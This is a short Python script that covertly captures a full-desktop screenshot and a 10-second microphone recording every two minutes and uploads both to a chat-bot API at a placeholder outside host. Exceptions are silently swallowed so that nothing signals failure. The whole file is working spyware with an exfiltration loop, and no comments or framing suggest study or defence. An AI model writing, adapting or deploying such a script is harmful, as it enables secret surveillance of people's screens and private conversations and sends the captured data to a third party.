import io
import subprocess
import time
from contextlib import suppress

import mss
import mss.tools
import requests

API = "https://chat-gateway.example.com/bot000000:madeup/{method}"
ROOM = 4242


def frame() -> bytes:
    with mss.mss() as grab:
        shot = grab.grab(grab.monitors[0])
        return mss.tools.to_png(shot.rgb, shot.size)


def clip(seconds=10) -> bytes:
    return subprocess.run(["arecord", "-q", "-f", "cd", "-d", str(seconds), "-t", "wav"],
                          stdout=subprocess.PIPE).stdout


SOURCES = [("sendPhoto", "photo", frame), ("sendAudio", "audio", clip)]

while True:
    for method, field, take in SOURCES:
        with suppress(Exception):
            requests.post(API.format(method=method), data={"chat_id": ROOM},
                          files={field: io.BytesIO(take())})
    time.sleep(120)
